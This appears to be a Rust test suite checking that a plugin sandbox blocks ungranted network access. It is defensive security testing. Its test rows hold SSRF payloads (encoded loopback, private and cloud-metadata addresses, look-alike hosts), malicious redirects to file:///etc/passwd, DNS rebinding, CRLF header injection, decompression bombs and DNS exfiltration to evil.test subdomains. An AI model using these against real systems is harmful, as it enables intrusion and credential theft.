//! D: the network. Whatever must not be reached would answer: a control row whose plugin is
//! granted shows it.

use std::collections::BTreeSet;
use std::time::{Duration, Instant};

use async_compression::tokio::bufread::GzipEncoder;
use devrig_net::testnet::{Reply, Seen, Site};
use devrig_tests::{Arena, Row};
use serde_json::json;
use tokio::io::AsyncReadExt;

/// Addresses that everybody can reach on the real internet, and nobody in these tests.
const PUBLIC: [&str; 4] = ["93.184.216.34", "93.184.216.35", "151.101.1.140", "9.9.9.9"];
/// Asks for each URL of a list, and keeps what came under the URL.
fn asks(urls: &[String]) -> String {
    let urls = serde_json::to_string(urls).expect("JSON");
    format!("for (const url of {urls}) await attempt(url, async () => (await fetch(url)).text());")
}

fn texts(urls: &[&str]) -> Vec<String> {
    urls.iter().map(|url| (*url).to_owned()).collect()
}

/// A refusal of the core, or of the worker before it: some spellings are no URL at all.
const REFUSED: [&str; 3] = ["REFUSED", "TypeError", "ERR_INVALID_URL"];

#[tokio::test(flavor = "multi_thread")]
async fn d1_to_d5_d11_hosts_and_addresses_that_were_not_granted() {
    let arena = Arena::open().await;
    let net = &arena.rig.net;
    net.serve(Site::new("d1.test", PUBLIC[1]), |_| Reply::ok("first")).await;
    net.serve(Site::new("github.com", PUBLIC[0]), |_| Reply::ok("real")).await;
    let look_alikes = ["evilgithub.com", "github.com.evil.test", "evil.test", "xn--gthub-n4a.com"];
    for (n, name) in look_alikes.iter().enumerate() {
        net.serve(Site::new(name, &format!("9.9.9.{}", n + 10)), |_| Reply::ok("evil")).await;
    }
    let port = net.loopback(|_| Reply::ok("mine")).await;
    net.serve(Site::new("inner.test", "10.0.0.1"), |_| Reply::ok("inside")).await;
    net.serve(Site::new("meta.test", "169.254.169.254"), |_| Reply::ok("credentials")).await;
    let names = [
        ("zero.test", "0.0.0.0"),
        ("mapped.test", "::ffff:127.0.0.1"),
        ("ula.test", "fd00::1"),
        ("link.test", "fe80::1"),
        ("nat.test", "64:ff9b::7f00:1"),
        ("cgnat.test", "100.64.0.1"),
        ("multicast.test", "224.0.0.1"),
    ];
    for (name, ip) in names {
        net.dns(name, &[&[ip]]);
    }
    let spelled = |hosts: &[&str]| -> Vec<String> {
        let each = hosts
            .iter()
            .flat_map(|host| ["http", "https"].map(|scheme| format!("{scheme}://{host}:{port}/")));
        each.collect()
    };
    let here = spelled(&[
        "127.0.0.1",
        "localhost",
        "x.localhost",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[fd00::1]",
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "0.0.0.0",
        "127.0.0.2",
        "10.0.0.1",
        "172.16.0.1",
        "192.168.1.1",
        "169.254.1.1",
        "100.64.0.1",
        "224.0.0.1",
        "255.255.255.255",
    ]);
    let mut private: Vec<String> =
        names.iter().map(|(name, _)| format!("https://{name}/")).collect();
    private.push("https://inner.test/".to_owned());
    let numbers = spelled(&["127.1", "0x7f000001", "2130706433", "0177.0.0.1", "0x7f.1", "0"]);
    let other_port = format!("network:127.0.0.1:{}", if port == 1 { 2 } else { port - 1 });
    let socket = arena.rig.home.socket();
    let socket = socket.display();
    let own = [
        format!("unix://{socket}"),
        format!("http+unix://{}/", socket.to_string().replace('/', "%2F")),
        format!("http://unix:{socket}:/"),
        format!("file://{socket}"),
        format!("http://localhost{socket}"),
        "ws://localhost/".to_owned(),
    ];
    let near = [
        "https://evilgithub.com/",
        "https://EVILGITHUB.com/",
        "https://github.com.evil.test/",
        "https://github.com@evil.test/",
        "https://github.com\\@evil.test/",
        "https://github.com%40evil.test/",
        "https://github.com./",
        "https://xn--gthub-n4a.com/",
        "https://g\u{456}thub.com/",
        "https://github.com:8443/",
        "http://github.com/",
    ];
    let metadata = [
        "https://169.254.169.254/",
        "http://169.254.169.254/latest/meta-data",
        "https://2852039166/",
        "https://[fd00:ec2::254]/",
        "https://[::ffff:169.254.169.254]/",
        "https://metadata.google.internal/",
        "https://METADATA.google.internal./",
        "https://168.63.129.16/",
        "https://meta.test/",
    ];
    arena
        .run(vec![
            Row::new("d1-undeclared", &asks(&texts(&["https://d1.test/"])))
                .all_refused(&["REFUSED"])
                .audited("permission:not-declared", "refused"),
            Row::new("d2-alikes", &asks(&texts(&near)))
                .may(&["network:github.com", "network:*.github.com"])
                .all_refused(&REFUSED)
                .audited("network:host", "refused"),
            Row::new("d3-here", &asks(&here))
                .may(&["network", &other_port])
                .all_refused(&REFUSED)
                .audited("network", "refused"),
            Row::new("d3-names", &asks(&private))
                .may(&["network", "network:inner.test"])
                .all_refused(&REFUSED)
                .audited("network:address", "refused"),
            Row::new("d4-numbers", &asks(&numbers))
                .may(&["network", &other_port])
                .all_refused(&REFUSED)
                .audited("network", "refused"),
            Row::new("d5-metadata", &asks(&texts(&metadata)))
                .may(&["network", "network:meta.test private"])
                .all_refused(&REFUSED)
                .audited("network:metadata", "refused"),
            Row::new("d11-sockets", &asks(&own)).may(&["network"]).all_refused(&REFUSED),
        ])
        .await;
    let reached: Vec<String> = net.seen().iter().map(|seen| seen.authority.clone()).collect();
    arena.check(reached.is_empty(), format!("requests arrived at {reached:?}"));
    let dialed = net.dialed();
    arena.check(dialed.is_empty(), format!("somebody was called: {dialed:?}"));
    let asked: BTreeSet<String> = net.lookups().into_iter().collect();
    let evil = asked.iter().any(|name| name.contains("evil") || name == "d1.test");
    arena.check(!evil, format!("a name server was asked for {asked:?}"));

    let here = |host: &str| format!("http://{host}:{port}/");
    let found = arena
        .run(vec![
            Row::new("d1-control", &asks(&texts(&["https://d1.test/"])))
                .may(&["network:d1.test"])
                .finds("https://d1.test/", "first"),
            Row::new("d2-control", &asks(&look_alikes.map(|name| format!("https://{name}/"))))
                .may(
                    &look_alikes
                        .map(|name| format!("network:{name}"))
                        .each_ref()
                        .map(String::as_str),
                )
                .finds("https://evil.test/", "evil"),
            Row::new("d2-upper", &asks(&texts(&["https://GITHUB.com/"])))
                .may(&["network:github.com"])
                .finds("https://GITHUB.com/", "real"),
            Row::new("d3-control", &asks(&[here("127.0.0.1"), here("127.1"), here("2130706433")]))
                .may(&[&format!("network:127.0.0.1:{port}")])
                .finds(&here("127.0.0.1"), "mine")
                .finds(&here("127.1"), "mine"),
            Row::new("d3-inner", &asks(&texts(&["https://inner.test/"])))
                .may(&["network:inner.test private"])
                .finds("https://inner.test/", "inside"),
        ])
        .await;
    let all = found["d2-control"].0.values().all(|text| *text == "evil");
    arena.check(all, "every look-alike would have answered");
    arena.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn d6_to_d8_answers_that_lead_elsewhere() {
    let arena = Arena::open().await;
    let net = &arena.rig.net;
    net.dns("rebind.test", &[&[PUBLIC[0]], &["127.0.0.1"]]);
    let outside = Site::new("rebind.test", PUBLIC[0]).http1();
    net.serve(outside, |_| Reply::ok("outside").header("connection", "close")).await;
    net.serve(Site::new("rebind.test", "127.0.0.1"), |_| Reply::ok("inside")).await;
    net.dns("mixed.test", &[&["127.0.0.1", "::1", "10.0.0.1", PUBLIC[1]]]);
    net.serve(Site::new("mixed.test", PUBLIC[1]), |_| Reply::ok("outside")).await;
    net.serve(Site::new("mixed.test", "10.0.0.1"), |_| Reply::ok("inside")).await;
    let port = net.loopback(|_| Reply::ok("mine")).await;
    net.serve(Site::new("other7.test", PUBLIC[2]), |seen| {
        Reply::ok(format!("other {} {}", seen.header("authorization"), seen.header("x-key")))
    })
    .await;
    net.serve(Site::new("api7.test", PUBLIC[3]), move |seen| leads(seen, port)).await;
    net.dns("inside7.test", &[&["127.0.0.1"]]);
    net.serve(Site::new("api8.test", "9.9.9.8"), |seen| {
        match seen.path.trim_start_matches('/').parse::<u32>() {
            Ok(0) => Reply::ok("end"),
            Ok(left) => Reply::redirect(302, &format!("/{}", left - 1)),
            Err(_) => Reply::redirect(302, "/loop"),
        }
    })
    .await;
    let paths = [
        "loopback",
        "number",
        "other",
        "relative",
        "backslash",
        "userinfo",
        "file",
        "data",
        "plain",
        "inside",
    ]
    .map(|path| format!("https://api7.test/{path}"));
    let posts = "await attempt('body', async () => (await fetch('https://api7.test/body', { method: 'POST', body: 'stolen' })).text());";
    arena
        .run(vec![
            Row::new(
                "d6-rebinds",
                "await attempt('first', async () => (await fetch('https://rebind.test/')).text());
                 await attempt('second', async () => (await fetch('https://rebind.test/')).text());
                 await attempt('mixed', async () => (await fetch('https://mixed.test/')).text());",
            )
            .may(&["network:rebind.test", "network:mixed.test"])
            .finds("first", "outside")
            .finds("second", "!REFUSED")
            .finds("mixed", "outside")
            .audited("network:address", "refused"),
            Row::new("d7-redirects", &format!("{}{posts}", asks(&paths)))
                .may(&["network:api7.test", "network:inside7.test"])
                .all_refused(&["REFUSED"])
                .audited("network:host", "refused"),
            Row::new(
                "d8-chains",
                "for (const path of ['30', '6', 'loop']) await attempt(path, async () => (await fetch('https://api8.test/' + path)).text());",
            )
            .may(&["network:api8.test"])
            .all_refused(&["REFUSED"])
            .audited("network:redirect", "refused"),
        ])
        .await;
    let seen = net.seen();
    let elsewhere: Vec<_> = seen
        .iter()
        .filter(|seen| {
            !["rebind.test", "mixed.test", "api7.test", "api8.test"].contains(&seen.host())
        })
        .map(|seen| seen.authority.clone())
        .collect();
    arena.check(elsewhere.is_empty(), format!("requests arrived at {elsewhere:?}"));
    let dialed = net.dialed();
    let inside = dialed.iter().any(|address| {
        address.ip().is_loopback() || address.ip() == std::net::Ipv4Addr::new(10, 0, 0, 1)
    });
    arena.check(!inside, format!("an address inside was called: {dialed:?}"));
    let hops = net.seen_by("api8.test").len();
    arena.check(hops == 18, format!("three chains of five redirects are 18 requests, not {hops}"));

    let local = format!("network:127.0.0.1:{port}");
    arena
        .run(vec![
            Row::new(
                "d6-control",
                "await attempt('inside', async () => (await fetch('https://127.0.0.1/')).text());",
            )
            .may(&["network:127.0.0.1:443"])
            .finds("inside", "inside"),
            Row::new(
                "d7-control",
                &format!(
                    "{posts} await attempt('other', async () => (await fetch('https://api7.test/other')).text());"
                ),
            )
            .may(&["network:api7.test", "network:other7.test", &local])
            .finds("body", "mine")
            .finds("other", "other  "),
            // Both hosts are granted, and still the secret stays with the one that it is bound to.
            Row::new(
                "d7-secret",
                "const token = await sdk.secrets.ref('token');
                 await attempt('away', async () => (await fetch('https://api7.test/away', { headers: { authorization: 'Bearer ' + token, 'x-key': token } })).text());",
            )
            .may(&["network:api7.test", "network:other7.test", "secrets:token@api7.test"])
            .with_secret()
            .finds("away", "other  "),
            Row::new(
                "d8-control",
                "await attempt('five', async () => (await fetch('https://api8.test/5')).text());",
            )
            .may(&["network:api8.test"])
            .finds("five", "end"),
        ])
        .await;
    let stolen = net.seen().iter().any(|seen| seen.body == "stolen" && seen.path == "/");
    arena.check(stolen, "the body of the 307 went along where it was granted");
    let sent = net.seen_by("api7.test").into_iter().find(|seen| seen.path == "/away");
    let value = devrig_tests::oracle::secret_of("d7-secret");
    arena.check(
        sent.is_some_and(|seen| seen.header("x-key") == value),
        "the host that the secret is bound to got it",
    );
    arena.close().await;
}

fn leads(seen: &Seen, port: u16) -> Reply {
    let to = |status, location: &str| Reply::redirect(status, location);
    match seen.path.as_str() {
        "/loopback" => to(302, &format!("http://127.0.0.1:{port}/")),
        "/number" => to(302, &format!("http://0x7f.1:{port}/")),
        "/body" => to(307, &format!("http://127.0.0.1:{port}/")),
        "/other" => to(302, "https://other7.test/"),
        "/away" => to(307, "https://other7.test/"),
        "/relative" => to(302, "//other7.test/"),
        "/backslash" => to(302, "\\\\other7.test/"),
        "/userinfo" => to(302, "https://api7.test@other7.test/"),
        "/file" => to(302, "file:///etc/passwd"),
        "/data" => to(302, "data:text/plain,x"),
        "/plain" => to(302, "http://api7.test/"),
        "/inside" => to(302, "https://inside7.test/"),
        _ => Reply::ok("end"),
    }
}

async fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut packed = Vec::new();
    GzipEncoder::new(bytes).read_to_end(&mut packed).await.expect("bytes in memory");
    packed
}

#[tokio::test(flavor = "multi_thread")]
async fn d9_d10_d13_d14_floods_headers_bursts_and_names() {
    let arena = Arena::open().await;
    let net = &arena.rig.net;
    let once = gzip(&vec![0; 64 << 20]).await;
    let twice = gzip(&once).await;
    assert!(twice.len() < 2_000, "64 MB in {} bytes", twice.len());
    net.serve(Site::new("api9.test", PUBLIC[0]), move |seen| match seen.path.as_str() {
        "/endless" => Reply::ok(vec![b'x'; 65_536]).repeat(1 << 40, Duration::ZERO),
        "/announced" => {
            Reply::ok("x").header("content-length", "10000000000").repeat(1 << 40, Duration::ZERO)
        }
        "/bomb" => Reply::ok(once.clone()).header("content-encoding", "gzip"),
        "/nested" => Reply::ok(twice.clone()).header("content-encoding", "gzip, gzip"),
        "/drip" => Reply::ok("x").repeat(1_000, Duration::from_secs(60)),
        "/whole" => Reply::ok(vec![b'x'; 9 << 20]),
        _ => Reply::ok("hi"),
    })
    .await;
    net.serve(Site::new("api10.test", PUBLIC[1]), |_| Reply::ok("hi")).await;
    net.serve(Site::new("api13.test", PUBLIC[2]).http1(), |_| {
        Reply::ok("hi").after(Duration::from_millis(20))
    })
    .await;
    net.serve(Site::new("ill13.test", PUBLIC[3]), |_| Reply::new(500, "no")).await;
    let begun = Instant::now();
    let found = arena
        .run(vec![
            Row::new(
                "d9-floods",
                "const get = (path, init) => async () => (await fetch('https://api9.test/' + path, init)).text();
                 for (const path of ['endless', 'announced', 'bomb', 'nested']) await attempt(path, get(path));
                 const begun = performance.now();
                 await attempt('drip', get('drip', { signal: AbortSignal.timeout(25_000), timeoutMs: 1_500 }));
                 found.took = performance.now() - begun < 28_000;
                 await attempt('whole', async () => (await get('whole')()).length);",
            )
            .may(&["network:api9.test"])
            .finds("endless", "!TOO_LARGE")
            .finds("announced", "!TOO_LARGE")
            .finds("bomb", "!TOO_LARGE")
            .finds("nested", "!TOO_LARGE")
            .finds("took", true)
            .finds("whole", 9 << 20)
            .audited("limit:too_large", "refused"),
            Row::new("d10-headers", HEADERS)
                .may(&["network:api10.test"])
                .finds("control", "hi")
                .finds("refused", 12),
            // What it stores would wait behind its own burst.
            Row::with_code(
                "d13-burst",
                "devrig.activate((sdk) => {
                   sdk.dataSources.register('d13-burst.items', { async sync() {
                     for (let i = 0; i < 5000; i++) fetch('https://api13.test/' + i).catch(() => {});
                     await new Promise((later) => setTimeout(later, 3000));
                     return { cursor: 'c', itemCount: 0, hasMore: false };
                   } });
                   sdk.actions.register('d13-burst.act', async () => ({ success: true }));
                 })",
            )
            .may(&["network:api13.test"])
            .audited("limit:burst", "delayed"),
            Row::new(
                "d13-breaker",
                "for (let i = 0; i < 20; i++) await attempt('r' + i, async () => (await fetch('https://ill13.test/')).status);",
            )
            .may(&["network:ill13.test"])
            .finds("r0", 500)
            .audited("network:breaker", "refused"),
            Row::new(
                "d14-names",
                "for (let i = 0; i < 12; i++) {
                   await attempt('evil' + i, () => fetch('https://s3cret' + i + '.evil.test/'));
                   await attempt('within' + i, () => fetch('https://s3cret' + i + '.good.test.evil.test/'));
                   await attempt('good' + i, () => fetch('https://s3cret' + i + '.good.test/'));
                 }",
            )
            .may(&["network:*.good.test"])
            .finds("evil0", "!REFUSED")
            .finds("within0", "!REFUSED")
            .finds("good0", "!NETWORK")
            .audited("network:host", "refused")
            .audited("network:hosts", "allowed"),
        ])
        .await;
    let api10 = net.seen_by("api10.test");
    arena.check(api10.len() == 1, format!("{} requests with headers arrived", api10.len()));
    let burst = net.seen_by("api13.test");
    let places: BTreeSet<u64> = burst.iter().map(|seen| seen.connection).collect();
    arena.check(places.len() <= 6, format!("{} requests at a time", places.len()));
    // The burst lasts some 3 s, and longer where the machine is busy.
    let most = 140 + 20 * usize::try_from(begun.elapsed().as_secs()).expect("some seconds");
    arena.check(
        (100..=most).contains(&burst.len()),
        format!("120 at once and 20 a second, not {}", burst.len()),
    );
    let ill = net.seen_by("ill13.test").len();
    arena.check(ill == 5, format!("a host that fails was asked {ill} times"));
    let opened = found["d13-breaker"].0.values().filter(|one| **one != json!(500)).count();
    arena.check(opened == 15, format!("{opened} requests were spared the host"));
    let asked = net.lookups();
    let evil: Vec<_> = asked.iter().filter(|name| name.contains("evil")).collect();
    arena.check(evil.is_empty(), format!("a name server was asked for {evil:?}"));
    let figures = arena.close().await;
    assert!(figures.core_growth < 200 << 20, "{} MB", figures.core_growth >> 20);
}

const HEADERS: &str = "
    const headers = [['X-A', 'b\\r\\nHost: evil.test'], ['X-A', 'b\\nc'], ['X-A', 'b\\0c'], ['X\\r\\nA', 'b'], ['Host', 'evil.test'], ['Cookie', 'a=b'],
      ['Proxy-Authorization', 'x'], ['Proxy-Connection', 'x'], ['Transfer-Encoding', 'chunked'], ['Connection', 'upgrade'], ['Content-Length', '5'], ['Upgrade', 'h2c']];
    found.refused = 0;
    for (const pair of headers) {
      try { await fetch('https://api10.test/', { headers: [pair] }); found['sent ' + pair[0]] = true; }
      catch (error) { found.refused++; }
    }
    await attempt('control', async () => (await fetch('https://api10.test/', { headers: { 'X-A': 'b' } })).text());
";

/// Runs again in a process of its own, whose environment names a proxy.
#[tokio::test(flavor = "multi_thread")]
async fn d12_no_proxy_of_the_environment_or_of_the_plugin_is_used() {
    const PROXIED: &str = "DEVRIG_TEST_PROXIED";
    if std::env::var_os(PROXIED).is_none() {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a free port");
        listener.set_nonblocking(true).expect("an answer at once");
        let proxy = format!("http://{}", listener.local_addr().expect("an address"));
        let mut again =
            std::process::Command::new(std::env::current_exe().expect("the test's own path"));
        again.args([
            "--exact",
            "hostile::d_network::d12_no_proxy_of_the_environment_or_of_the_plugin_is_used",
        ]);
        for name in
            ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"]
        {
            again.env(name, &proxy);
        }
        let ended = again.env(PROXIED, &proxy).output().expect("the test runs again");
        assert!(ended.status.success(), "{}", String::from_utf8_lossy(&ended.stderr));
        let ran = String::from_utf8_lossy(&ended.stdout).contains("1 passed");
        assert!(ran, "{}", String::from_utf8_lossy(&ended.stdout));
        assert!(listener.accept().is_err(), "somebody called the proxy");
        return;
    }
    let proxy = std::env::var(PROXIED).expect("it was set above");
    let arena = Arena::open().await;
    arena.rig.net.serve(Site::new("api12.test", PUBLIC[0]), |_| Reply::ok("direct")).await;
    let body = format!(
        "const proxy = {proxy:?};
         await attempt('environment', async () => (await fetch('https://api12.test/')).text());
         await attempt('option', async () => (await fetch('https://api12.test/', {{ proxy, agent: proxy, dispatcher: {{ proxy }} }})).text());
         await attempt('target', async () => (await fetch(proxy)).text());"
    );
    arena
        .run(vec![
            Row::new("d12-proxy", &body)
                .may(&["network:api12.test"])
                .finds("environment", "direct")
                .finds("option", "direct")
                .finds("target", "!REFUSED"),
        ])
        .await;
    let dialed: BTreeSet<_> = arena.rig.net.dialed().into_iter().collect();
    let expected = format!("{}:443", PUBLIC[0]).parse().expect("an address");
    arena.check(dialed == BTreeSet::from([expected]), format!("{dialed:?}"));
    arena.close().await;
}
